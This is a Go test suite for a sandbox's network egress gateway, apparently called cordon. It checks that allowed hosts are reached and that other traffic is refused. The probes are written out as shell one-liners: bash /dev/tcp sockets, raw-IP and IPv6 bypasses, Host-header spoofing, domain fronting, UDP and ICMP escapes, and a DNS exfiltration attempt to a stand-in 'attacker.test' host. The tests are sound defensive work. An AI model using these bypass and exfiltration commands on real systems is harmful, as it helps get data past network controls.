//go:build linux

package main

import (
	"encoding/json"
	"encoding/pem"
	"fmt"
	"net"
	"net/http"
	"net/http/cgi"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/cordon-sandbox/cordon/internal/audit"
	"github.com/miekg/dns"
)

// upstream is a test server on the host's loopback that answers with a canary.
func upstream(t *testing.T, canary string) (port int) {
	t.Helper()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, "UPSTREAM-%s host=%s\n", canary, r.Host)
	}))
	t.Cleanup(srv.Close)
	return srv.Listener.Addr().(*net.TCPAddr).Port
}

// countingDNS is a DNS server on the host's loopback that counts the queries it gets and answers every
// A query with 127.0.0.1.
func countingDNS(t *testing.T) (addr string, queries *atomic.Int64) {
	t.Helper()
	pc, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	queries = new(atomic.Int64)
	srv := &dns.Server{PacketConn: pc, Handler: dns.HandlerFunc(func(w dns.ResponseWriter, q *dns.Msg) {
		queries.Add(1)
		m := new(dns.Msg)
		m.SetReply(q)
		if len(q.Question) == 1 && q.Question[0].Qtype == dns.TypeA {
			m.Answer = append(m.Answer, &dns.A{Hdr: dns.RR_Header{Name: q.Question[0].Name, Rrtype: dns.TypeA, Class: dns.ClassINET, Ttl: 5}, A: net.IPv4(127, 0, 0, 1)})
		}
		w.WriteMsg(m)
	})}
	go srv.ActivateAndServe()
	t.Cleanup(func() { srv.Shutdown() })
	return pc.LocalAddr().String(), queries
}

// TestEgressAllowlist: every kind of client reaches an allowed name, through the transparent path and
// the explicit proxy, and the same probes to a name the policy does not allow fail with the message.
func TestEgressAllowlist(t *testing.T) {
	requireTool(t, "curl")
	requireTool(t, "python3")
	forEachTier(t, func(t *testing.T, h *harness) {
		port := upstream(t, h.canary)
		want := "UPSTREAM-" + h.canary
		pol := fmt.Sprintf("network:\n  allow:\n    - {host: pkg.test, ports: [%d]}\n  hosts: {pkg.test: 127.0.0.1, other.test: 127.0.0.1}\n", port)
		probes := map[string]string{
			"curl transparent":  "curl -sS -m 10 --noproxy '*' http://%s:%d/",
			"curl proxy":        "curl -sS -m 10 http://%s:%d/",
			"python socket":     `python3 -c 'import socket; s = socket.create_connection(("%s", %d), 10); s.sendall(b"GET / HTTP/1.1\r\nHost: pkg.test\r\nConnection: close\r\n\r\n"); print(s.recv(4096).decode())'`,
			"bash dev tcp":      `bash -c 'exec 3<>/dev/tcp/%s/%d && printf "GET / HTTP/1.1\r\nHost: pkg.test\r\nConnection: close\r\n\r\n" >&3 && cat <&3'`,
			"python urllib env": `python3 -c 'import urllib.request; print(urllib.request.urlopen("http://%s:%d/", timeout=10).read().decode())'`,
		}
		if _, err := exec.LookPath("node"); err == nil {
			// node's fetch ignores HTTP_PROXY: the transparent path.
			probes["node fetch"] = `node -e 'fetch("http://%s:%d/").then(r => r.text()).then(console.log, e => { console.error(e); process.exit(1) })'`
		}
		for name, probe := range probes {
			t.Run(name, func(t *testing.T) {
				if r := h.sandboxed(pol, fmt.Sprintf(probe, "pkg.test", port)); !strings.Contains(r.stdout, want) {
					t.Fatalf("an allowed name was not reached:\n%s", r)
				}
				r := h.sandboxed(pol, fmt.Sprintf(probe, "other.test", port))
				if strings.Contains(r.stdout, want) {
					t.Fatalf("a name the policy does not allow was reached:\n%s", r)
				}
			})
		}
		// The denial names the host and the line that would allow it.
		r := h.sandboxed(pol, fmt.Sprintf("curl -sS -m 10 http://other.test:%d/", port))
		if !strings.Contains(r.stdout, "other.test") || !strings.Contains(r.stdout, "network.allow") {
			t.Errorf("the 403 does not say what to allow:\n%s", r)
		}
		// The run's audit log has the decisions.
		if !strings.Contains(r.stderr, "denied") || !strings.Contains(r.stderr, "cordon log") {
			t.Errorf("no end-of-run network summary:\n%s", r)
		}
		// A refused CONNECT (whose 403 body no client shows) and a refused name (NXDOMAIN) are also
		// told on cordon's stderr, with the fix.
		r = h.sandboxed(pol, fmt.Sprintf("curl -sS -m 10 https://other.test:%[1]d/; curl -sS -m 10 --noproxy '*' http://nowhere.test:%[1]d/; true", port))
		for _, want := range []string{
			fmt.Sprintf(`cordon: blocked other.test:%d (not in network.allow) — to allow: add {host: "other.test", ports: [%d]} to network.allow`, port, port),
			`cordon: blocked the DNS name nowhere.test (not in network.allow) — to allow: add "nowhere.test" to network.allow`,
		} {
			if !strings.Contains(r.stderr, want) {
				t.Errorf("stderr lacks %q:\n%s", want, r.stderr)
			}
		}
		// A run with both: cordon log --denied keeps only the refusal, --json gives every event.
		h.sandboxed(pol, fmt.Sprintf("curl -sS -m 10 http://pkg.test:%[1]d/; curl -sS -m 10 http://other.test:%[1]d/", port))
		all := h.cordon(nil, "", "log", "--json", "last")
		var kinds []string
		for _, line := range strings.Split(strings.TrimSpace(all.stdout), "\n") {
			var e audit.Event
			if err := json.Unmarshal([]byte(line), &e); err != nil {
				t.Fatalf("cordon log --json: %q: %v", line, err)
			}
			kinds = append(kinds, e.Name+":"+string(e.Decision))
		}
		if !slices.Contains(kinds, "pkg.test:allow") || !slices.Contains(kinds, "other.test:deny") {
			t.Errorf("cordon log --json: %v", kinds)
		}
		denied := h.cordon(nil, "", "log", "--denied", "last")
		if denied.code != 0 || !strings.Contains(denied.stdout, "other.test") || strings.Contains(denied.stdout, "pkg.test") {
			t.Errorf("cordon log --denied:\n%s", denied)
		}
	})
}

// TestEgressDeniedPaths: raw IPs, unassigned mapped addresses, UDP and a network-less sandbox.
func TestEgressDeniedPaths(t *testing.T) {
	requireTool(t, "curl")
	requireTool(t, "python3")
	forEachTier(t, func(t *testing.T, h *harness) {
		port := upstream(t, h.canary)
		want := "UPSTREAM-" + h.canary
		pol := fmt.Sprintf("network:\n  allow:\n    - {host: pkg.test, ports: [%d]}\n  hosts: {pkg.test: 127.0.0.1}\n", port)
		if r := h.sandboxed(pol, fmt.Sprintf("curl -sS -m 10 --noproxy '*' http://pkg.test:%d/", port)); !strings.Contains(r.stdout, want) {
			t.Fatalf("control: the allowed name does not work:\n%s", r)
		}
		// Resolvers that ask with AI_ADDRCONFIG see IPv4 as configured.
		if r := h.sandboxed(pol, "getent ahostsv4 pkg.test"); !strings.Contains(r.stdout, "198.18.") {
			t.Errorf("getent ahostsv4 (AI_ADDRCONFIG) does not resolve an allowed name:\n%s", r)
		}
		// getaddrinfo's RFC 6724 order puts the name's IPv4 address first (the sandbox's IPv4
		// source has global scope), so clients take the cheaper IPv4 path through the redirect.
		if r := h.sandboxed(pol, "getent ahosts pkg.test"); !strings.HasPrefix(r.stdout, "198.18.") || !strings.Contains(r.stdout, "\nfd") {
			t.Errorf("getent ahosts: want the IPv4 address first, the IPv6 one after it:\n%s", r)
		}
		for name, probe := range map[string]string{
			"raw IP":               "curl -sS -m 5 --noproxy '*' http://1.1.1.1:%[1]d/",
			"unassigned mapped IP": "curl -sS -m 5 --noproxy '*' http://198.18.3.3:%[1]d/",
			"raw IP via proxy":     "curl -sS -m 5 http://127.0.0.1:%[1]d/",
			"host header lie":      "curl -sS -m 5 --noproxy '*' -H 'Host: other.test' http://pkg.test:%[1]d/",
			"relayed CONNECT":      "curl -sS -m 5 --noproxy '*' -p -x http://pkg.test:%[1]d http://other.test:%[1]d/",
		} {
			t.Run(name, func(t *testing.T) {
				if r := h.sandboxed(pol, fmt.Sprintf(probe, port)); strings.Contains(r.stdout, want) {
					t.Fatalf("reached the upstream:\n%s", r)
				}
			})
		}
		t.Run("udp", func(t *testing.T) {
			r := h.sandboxed(pol, `python3 -c '
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    s.sendto(b"x", ("1.1.1.1", 9999)); print("SENT")
except OSError as e: print("refused", e)
'`)
			if strings.Contains(r.stdout, "SENT") {
				t.Fatalf("UDP left the sandbox:\n%s", r)
			}
		})
		t.Run("no network section", func(t *testing.T) {
			if r := h.sandboxed("", fmt.Sprintf("curl -sS -m 5 http://pkg.test:%d/", port)); strings.Contains(r.stdout, want) {
				t.Fatalf("a sandbox without network section reached the upstream:\n%s", r)
			}
		})
	})
}

// TestDNSExfiltrationCarriesNothing: a query for a name the policy does not know is answered NXDOMAIN
// inside and never reaches the upstream resolver; an allowed name is resolved upstream (the control).
func TestDNSExfiltrationCarriesNothing(t *testing.T) {
	requireTool(t, "curl")
	forEachTier(t, func(t *testing.T, h *harness) {
		addr, queries := countingDNS(t)
		pol := fmt.Sprintf("network:\n  allow: [allowed.test]\n  dns: {upstream: [%q]}\n", addr)
		r := h.sandboxed(pol, "getent hosts secret-"+h.canary+".attacker.test; curl -sS -m 5 https://secret2-"+h.canary+".attacker.test/ 2>&1; true")
		if strings.Contains(r.stdout, "198.18.") {
			t.Fatalf("a denied name was answered:\n%s", r)
		}
		if n := queries.Load(); n != 0 {
			t.Fatalf("the upstream resolver got %d queries for denied names", n)
		}
		// The user is told, once for the whole domain the names were under, not once per name.
		if c := strings.Count(r.stderr, "cordon: blocked the DNS name "); c != 1 || !strings.Contains(r.stderr, ".attacker.test (not in network.allow)") {
			t.Errorf("want one line about the refused names, got %d:\n%s", c, r.stderr)
		}
		// Control: the gateway does resolve an allowed name upstream when the sandbox connects to it.
		h.sandboxed(pol, "curl -sS -m 5 --noproxy '*' https://allowed.test/ 2>&1; true")
		if queries.Load() == 0 {
			t.Fatal("control: the upstream resolver saw no query for an allowed name, so the test proves nothing")
		}
	})
}

// TestEgressTLSAndResolution: HTTPS to an allowed name works with SNI, a connection whose SNI names
// another (also allowed) host than the address it was sent to is refused (domain fronting), and an
// allowed name that resolves to loopback is refused unless network.hosts pins it there.
func TestEgressTLSAndResolution(t *testing.T) {
	requireTool(t, "curl")
	requireTool(t, "python3")
	forEachTier(t, func(t *testing.T, h *harness) {
		srv := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			fmt.Fprintf(w, "TLS-%s\n", h.canary)
		}))
		t.Cleanup(srv.Close)
		port := srv.Listener.Addr().(*net.TCPAddr).Port
		ca := pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: srv.Certificate().Raw})
		h.writeFile(filepath.Join(h.ws, "ca.pem"), string(ca), 0o644)
		want := "TLS-" + h.canary
		// httptest's certificate is for example.com.
		pol := fmt.Sprintf("network:\n  allow:\n    - {host: example.com, ports: [%[1]d]}\n    - {host: other.test, ports: [%[1]d]}\n  hosts: {example.com: 127.0.0.1, other.test: 127.0.0.1}\n", port)
		if r := h.sandboxed(pol, fmt.Sprintf("curl -sS -m 10 --noproxy '*' --cacert ca.pem https://example.com:%d/", port)); !strings.Contains(r.stdout, want) {
			t.Fatalf("HTTPS to an allowed name failed:\n%s", r)
		}
		front := `ip=$(python3 -c 'import socket, sys; print(socket.getaddrinfo(sys.argv[1], 443, socket.AF_INET)[0][4][0])' %s); curl -sS -m 10 --noproxy '*' --cacert ca.pem --resolve example.com:%d:$ip https://example.com:%d/`
		if r := h.sandboxed(pol, fmt.Sprintf(front, "example.com", port, port)); !strings.Contains(r.stdout, want) {
			t.Fatalf("control: --resolve to the name's own address failed:\n%s", r)
		}
		if r := h.sandboxed(pol, fmt.Sprintf(front, "other.test", port, port)); strings.Contains(r.stdout, want) {
			t.Fatalf("SNI example.com sent to other.test's address was let through (domain fronting):\n%s", r)
		}

		// An allowed name that a resolver answers with loopback: refused unless pinned.
		addr, _ := countingDNS(t)
		unpinned := fmt.Sprintf("network:\n  allow:\n    - {host: example.com, ports: [%d]}\n  dns: {upstream: [%q]}\n", port, addr)
		if r := h.sandboxed(unpinned, fmt.Sprintf("curl -sS -m 10 --noproxy '*' --cacert ca.pem https://example.com:%d/", port)); strings.Contains(r.stdout, want) {
			t.Fatalf("an allowed name resolving to the host's loopback was dialed:\n%s", r)
		}
	})
}

// TestEgressGitSmartHTTP: real git inside the sandbox clones from and pushes to a git http-backend
// over HTTPS through the gateway; the same clone from a name the policy does not allow fails.
func TestEgressGitSmartHTTP(t *testing.T) {
	requireTool(t, "git")
	backend, err := exec.Command("git", "--exec-path").Output()
	if err != nil {
		t.Skipf("git --exec-path: %v", err)
	}
	forEachTier(t, func(t *testing.T, h *harness) {
		root := t.TempDir()
		gitEnv := []string{"GIT_CONFIG_NOSYSTEM=1", "GIT_CONFIG_GLOBAL=/dev/null", "GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@t", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@t"}
		setup := exec.Command("sh", "-ec", `git init -q --bare -b main repo.git && git -C repo.git config http.receivepack true
git init -q -b main seed && cd seed && echo hello > README && git add README && git commit -qm seed && git push -q ../repo.git main`)
		setup.Dir, setup.Env = root, append(os.Environ(), gitEnv...)
		if out, err := setup.CombinedOutput(); err != nil {
			t.Fatalf("setup: %v\n%s", err, out)
		}
		srv := httptest.NewTLSServer(&cgi.Handler{
			Path: filepath.Join(strings.TrimSpace(string(backend)), "git-http-backend"),
			Env:  []string{"GIT_PROJECT_ROOT=" + root, "GIT_HTTP_EXPORT_ALL=1"},
		})
		t.Cleanup(srv.Close)
		port := srv.Listener.Addr().(*net.TCPAddr).Port
		h.writeFile(filepath.Join(h.ws, "ca.pem"), string(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: srv.Certificate().Raw})), 0o644)
		pol := fmt.Sprintf("network:\n  allow:\n    - {host: example.com, ports: [%d]}\n  hosts: {example.com: 127.0.0.1, other.test: 127.0.0.1}\n", port)
		script := `export GIT_CONFIG_NOSYSTEM=1 GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@a GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@a
git -c http.sslCAInfo=$PWD/ca.pem clone -q https://%s:%d/repo.git clone && cd clone && cat README &&
echo agent > AGENT && git add AGENT && git commit -qm agent && git -c http.sslCAInfo=$PWD/../ca.pem push -q origin main && echo PUSHED`
		r := h.sandboxed(pol, fmt.Sprintf(script, "example.com", port))
		if !strings.Contains(r.stdout, "hello") || !strings.Contains(r.stdout, "PUSHED") {
			t.Fatalf("git clone and push to an allowed host failed:\n%s", r)
		}
		log := exec.Command("git", "-C", filepath.Join(root, "repo.git"), "log", "--format=%s", "main")
		log.Env = append(os.Environ(), gitEnv...)
		if out, err := log.Output(); err != nil || !strings.Contains(string(out), "agent") {
			t.Fatalf("the push did not reach the upstream repository: %q %v", out, err)
		}
		if r := h.sandboxed(pol, fmt.Sprintf(script, "other.test", port)); strings.Contains(r.stdout, "hello") {
			t.Fatalf("git cloned from a host the policy does not allow:\n%s", r)
		}
	})
}

// TestEgressPolicyFailsBeforeStart: a network policy the gateway cannot enforce (here a preset whose
// tool names no usable registry) stops the run before the command exists.
func TestEgressPolicyFailsBeforeStart(t *testing.T) {
	requireTool(t, "npm")
	forEachTier(t, func(t *testing.T, h *harness) {
		r := h.cordon([]string{"npm_config_registry=not-a-url"}, "", "run", "--policy", h.policy("network:\n  presets: [npm]\n"), "--", "echo", "RAN")
		if r.code != exitCordon || !strings.Contains(r.stderr, "preset npm") || strings.Contains(r.stdout, "RAN") {
			t.Fatalf("want exit 125 naming the preset, and no command run:\n%s", r)
		}
		// Control: with a usable registry the same command runs.
		if r := h.cordon([]string{"npm_config_registry=https://npm.example.test/"}, "", "run", "--policy", h.policy("network:\n  presets: [npm]\n"), "--", "echo", "RAN"); !strings.Contains(r.stdout, "RAN") {
			t.Fatalf("control: %s", r)
		}
	})
}

// goClientSource is a Go program that ignores every proxy setting (Transport.Proxy nil) and dials
// IPv4 and IPv6 itself, as a Go tool with its own HTTP client does. Usage: goclient URL NETWORK
// [HEADER VARIABLE].
const goClientSource = `package main

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"time"
)

func main() {
	url, network := os.Args[1], os.Args[2]
	tr := &http.Transport{Proxy: nil, DialContext: func(ctx context.Context, _, addr string) (net.Conn, error) {
		return (&net.Dialer{Timeout: 5 * time.Second}).DialContext(ctx, network, addr)
	}}
	c := &http.Client{Transport: tr, Timeout: 10 * time.Second}
	req, err := http.NewRequest("GET", url, nil)
	if err != nil {
		fmt.Println("ERROR", err)
		return
	}
	if len(os.Args) > 4 {
		req.Header.Set(os.Args[3], os.Getenv(os.Args[4])) // a header whose value is a variable's
	}
	resp, err := c.Do(req)
	if err != nil {
		fmt.Println("ERROR", err)
		return
	}
	b, _ := io.ReadAll(resp.Body)
	fmt.Printf("%d %s", resp.StatusCode, b)
}
`

// TestEgressGoClientIPv6AndICMP: a Go client with proxies off reaches an allowed name over IPv4 and
// IPv6 (the controls) and not a raw IPv6 or IPv4 address; curl -6 likewise; ICMP echo leaves nothing.
func TestEgressGoClientIPv6AndICMP(t *testing.T) {
	requireTool(t, "curl")
	requireTool(t, "python3")
	client := buildGoClient(t)
	forEachIdentity(t, func(t *testing.T, h *harness) {
		port := upstream(t, h.canary)
		want := "UPSTREAM-" + h.canary
		h.writeFile(filepath.Join(h.ws, "goclient"), string(client), 0o755)
		pol := fmt.Sprintf("network:\n  allow:\n    - {host: pkg.test, ports: [%d]}\n  hosts: {pkg.test: 127.0.0.1}\n", port)
		for _, tc := range []struct {
			name, script string
			reach        bool
		}{
			{"go tcp4 name", "./goclient http://pkg.test:%d/ tcp4", true},
			{"go tcp6 name", "./goclient http://pkg.test:%d/ tcp6", true},
			{"curl -6 name", "curl -sS -m 10 -6 --noproxy '*' http://pkg.test:%d/", true},
			{"go raw IPv4", "./goclient http://127.0.0.1:%d/ tcp4", false},
			{"go raw IPv6 loopback", "./goclient http://[::1]:%d/ tcp6", false},
			{"go raw IPv6 global", "./goclient http://[2606:4700:4700::1111]:%d/ tcp6", false},
			{"go v4-mapped IPv6", "./goclient http://[::ffff:127.0.0.1]:%d/ tcp6", false},
		} {
			t.Run(tc.name, func(t *testing.T) {
				r := h.sandboxed(pol, fmt.Sprintf(tc.script, port))
				if got := strings.Contains(r.stdout, want); got != tc.reach {
					t.Fatalf("reached the upstream: %v, want %v:\n%s", got, tc.reach, r)
				}
			})
		}
		t.Run("icmp", func(t *testing.T) {
			probe := `python3 -c '
import socket
for fam, proto, dst, typ in ((socket.AF_INET, socket.IPPROTO_ICMP, "1.1.1.1", 8), (socket.AF_INET6, socket.IPPROTO_ICMPV6, "2606:4700:4700::1111", 128)):
    for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW):
        try:
            s = socket.socket(fam, kind, proto); s.settimeout(2)
            s.sendto(bytes([typ, 0, 0, 0, 0, 1, 0, 1]) + b"cordon", (dst, 0))
            print("REPLY", s.recv(1024))
        except OSError as e:
            print("no", kind, e)
'`
			if r := h.sandboxed(pol, probe); strings.Contains(r.stdout, "REPLY") {
				t.Fatalf("an ICMP echo got a reply from outside:\n%s", r)
			}
		})
	})
}

// buildGoClient compiles goClientSource and returns the static binary's bytes, for tests to place in
// a workspace.
func buildGoClient(t *testing.T) []byte {
	t.Helper()
	return buildProgram(t, goClientSource)
}
